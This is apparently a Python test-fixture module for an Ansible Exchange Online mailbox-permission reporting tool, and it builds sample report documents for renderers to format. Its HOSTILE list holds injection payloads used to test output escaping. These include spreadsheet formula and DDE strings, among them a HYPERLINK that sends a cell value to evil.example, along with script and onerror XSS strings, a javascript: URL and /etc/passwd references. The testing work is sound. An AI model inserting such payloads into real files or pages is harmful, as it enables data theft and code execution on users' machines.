# Copyright (c) 2026, email_router.exchange_online contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Documents to render: with a row of every verdict, with texts that mean something to a format, with many rows."""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterable
from typing import Any, cast

from ansible_collections.email_router.exchange_online.plugins.plugin_utils._report.document import (
    FORMAT,
    VERSION,
    Changes,
    Document,
    Head,
    Key,
    Row,
    Verdict,
)

ROUTER = "crmrouter@contoso.com"
BEGAN, ENDED, CREATED = "2026-11-28T01:58:05Z", "2026-11-28T02:00:03Z", "2026-11-28T02:00:05Z"

#: Each means something to one of the formats, or to what shows it.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    'a";=1+1;"',
    "a;=1+1",
    "a,+1",
    "a\n=1+1",
    "＝1+1",
    "a|b|c",
    "a\\|b",
    "ends\\",
    "``` \n# heading\n- item",
    "`" * 100,
    "`code` and `more",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</details><h1>green</h1>",
    "<!-- hidden",
    "[click](http://evil.example)",
    "![x](http://evil.example/x.png)",
    "[ref]: http://evil.example",
    "ping @octocat and #1, GH-1",
    "see https://evil.example/ or www.evil.example or <http://evil.example>",
    "mail someone@evil.example",
    "&lt;b&gt; &amp; &#60;",
    "*bold* _it_ ~~gone~~ $x$ :smile:",
    "]]> <![CDATA[ x",
    "[[ATTACHMENT|/etc/passwd]]",
    "[[[[[ATTACHMENT|/etc/passwd]]",
    "nul \0 bell \a escape \x1b[31m del \x7f end \ufffe",
    "half \ud800 character",
    "left \u202e right",
    "line \u2028 paragraph \u2029 next \x85 end",
    "é 日本語 🎉",
    "",
    " ",
]


def row(**fields: Any) -> Row:
    """A row that is as wanted, but for the fields given."""
    usual = {
        "mailbox": "sales@contoso.com",
        "address": "sales@contoso.com",
        "account": ROUTER,
        "right": "send_as",
        "state": "present",
        "before": "held",
        "outcome": "compliant",
        "cause": "",
        "next_step": "",
        "notes": [],
        "until": "",
        "reason": "",
        "verdict": "ok",
        "since": "",
        "regranted": 0,
    }
    made: dict[str, Any] = {**usual, **fields}
    return cast(
        Row, {**made, "standing": made.get("standing", made["outcome"]), "standing_since": made["since"], **fields}
    )


#: A row of every verdict, and of every outcome that a format treats in its own way.
ROWS = [
    row(),
    row(mailbox="info", address="info@contoso.com", right="full_access", outcome="granted", before="not held"),
    row(
        mailbox="late@contoso.com",
        outcome="missing",
        before="not held",
        verdict="fail",
        cause="drift",
        next_step="mend",
    ),
    row(mailbox="gone@contoso.com", address="", outcome="not_found", before="unknown", verdict="warn", since=CREATED),
    row(mailbox="dark@contoso.com", outcome="unknown", before="unknown", verdict="fail", cause="timed out"),
    row(mailbox="deny@contoso.com", outcome="denied", before="denied", verdict="fail", notes=["by a group"]),
    row(mailbox="more@contoso.com", outcome="surplus", verdict="ignore", cause="wanted by nobody"),
    row(mailbox="slow@contoso.com", outcome="pending", verdict="warn", until="2026-12-31", reason="move", regranted=3),
]


def document(rows: Iterable[Row] = tuple(ROWS), changes: Changes | None = None, **verdict: Any) -> Document:
    """A report on the rows. ``verdict``: what of it is not as the rows have it."""
    rows = list(rows)
    outcomes, verdicts = Counter(each["outcome"] for each in rows), Counter(each["verdict"] for each in rows)
    failed = verdicts["fail"] > 0
    told = {
        "failed": failed,
        "sentence": f"{len(rows)} grants, {verdicts['fail']} of them not as wanted" if failed else "all is as wanted",
        "failure_class": "mailboxes" if failed else "",
        "retry_safe": False,
        "rules": {"missing": "fail", "not_found": "warn", "surplus": "ignore", "pending": "warn"},
        "grace": {},
        "counts": dict(verdicts),
    }
    return {
        "format": FORMAT,
        "version": VERSION,
        "head": head(),
        "verdict": cast(Verdict, {**told, **verdict}),
        "summary": {"total": len(rows), **outcomes, "ambiguous": 0},
        "changes": changes,
        "statistics": {"calls_total": 12, "seconds": {"sign_in": 1.5, "reading": 2.5, "waiting": 1.0}},
        "rows": rows,
        "surplus_unseen": [],
    }


def head() -> Head:
    return {
        "created": CREATED,
        "began": BEGAN,
        "ended": ENDED,
        "collection_version": "1.0.0",
        "organization": "contoso.onmicrosoft.com",
        "application": "00000000-0000-0000-0000-00000000cafe",
        "mode": "audit",
        "rehearsal": False,
        "source": {
            "system": "gitlab",
            "commit": "0123456789abcdef0123456789abcdef01234567",
            "ref": "main",
            "job": "audit #12",
            "url": "https://ci.example/jobs/12",
        },
        "coverage": {"send_as": "7 of 7", "full_access": "1 of 1"},
    }


def key(mailbox: str, account: str = ROUTER, right: str = "send_as") -> Key:
    return {"mailbox": mailbox, "account": account, "right": right}


def changes(**lists: Any) -> Changes:
    """Nothing has changed, but for the lists given."""
    nothing = {
        "since": "2026-11-27T02:00:05Z",
        "new_drift": [],
        "mended": [],
        "new_surplus": [],
        "mailboxes_added": [],
        "mailboxes_gone": [],
        "still_pending": [],
        "regranted": [],
        "other": [],
    }
    return cast(Changes, {**nothing, **lists})


def hostile_document(texts: Iterable[str] = tuple(HOSTILE)) -> Document:
    """Every text in every place of a row, and in the head and the verdict: half of the rows fail, the others pass."""
    rows, texts = [], list(texts)
    for number, text in enumerate(texts):
        fields = (
            "address",
            "account",
            "right",
            "state",
            "before",
            "cause",
            "next_step",
            "until",
            "reason",
            "since",
            "standing",
        )
        anywhere = {
            "mailbox": f"{text}{number}",
            **dict.fromkeys(fields, text),
            "standing_since": text,
            "notes": [text, text],
        }
        rows += [row(**anywhere, verdict=verdict, outcome=f"o{text}") for verdict in ("fail", "ok")]
    lists = {name: [key(text, text, text) for text in texts] for name in ("new_drift", "mended", "regranted")}
    whole = document(rows, changes(mailboxes_added=texts, **lists), sentence=" ".join(texts))
    whole["head"]["application"] = whole["head"]["source"]["job"] = "".join(texts)
    whole["head"]["source"]["url"] = "javascript:alert(1)"
    whole["head"]["coverage"] = dict.fromkeys(texts, "".join(texts))
    return whole


def large_document(mailboxes: int = 10_000, **fields: Any) -> Document:
    """Two rights on each mailbox; one mailbox in ten is not as wanted."""
    rows = []
    for number in range(mailboxes):
        bad = {"outcome": "missing", "verdict": "fail", "cause": "not held"} if number % 10 == 0 else {}
        name = f"mailbox{number:05}@contoso.com"
        rows += [
            row(mailbox=name, address=name, right=right, **{**bad, **fields}) for right in ("send_as", "full_access")
        ]
    return document(rows)
